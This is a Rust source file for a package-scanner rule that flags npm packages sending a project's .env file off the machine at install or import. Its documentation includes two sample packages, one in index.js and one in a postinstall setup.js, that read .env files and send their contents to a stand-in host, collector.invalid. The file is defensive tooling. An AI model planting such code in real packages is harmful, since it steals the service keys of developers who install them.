//! # A `.env` file leaves the machine unasked
//!
//! At install or import, the text of a project's `.env` file reaches a request, a look-up or a command that
//! sends.
//!
//! ## Why it matters
//!
//! The file holds the keys of a project's services: database, payments, mail, models.
//!
//! ## Known benign uses
//!
//! Loaders of `.env` files turn them into variables and send nothing. A project's own code sends what its
//! own file holds.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(process.cwd(), ".env"), "utf8");
//! https.get("https://collector.invalid/?d=" + encodeURIComponent(text)); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs");
//! for (const name of ["../../.env", "../../.env.production"]) {
//!   fs.readFile(name, "utf8", (error, text) => {
//!     if (text) fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify({ name, text }) }); //~ here
//!   });
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const text = require("fs").readFileSync(".env", "utf8");
//! for (const line of text.split("\n")) process.env[line.split("=")[0]] = line.split("=")[1];
//! ```
//!
//! ## References
//!
//! - SafeDep: strapi plugin squats (April 2026)

use crate::prelude::*;

/// A `.env` file leaves the machine unasked.
pub struct DotenvFileSent;

impl Rule for DotenvFileSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "dotenv-file-sent",
            title: "A `.env` file leaves the machine unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &["collect-dotenv-sweep", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_project = facts.context().origin == Origin::Project;
        for flow in
            facts.flows(|source| *source == Source::SecretFile(FileClass::DotEnv), Sink::leaves_machine)
        {
            if flow.trigger == Trigger::Install || flow.trigger == Trigger::Import && !is_project {
                found.flow(flow);
            }
        }
    }
}
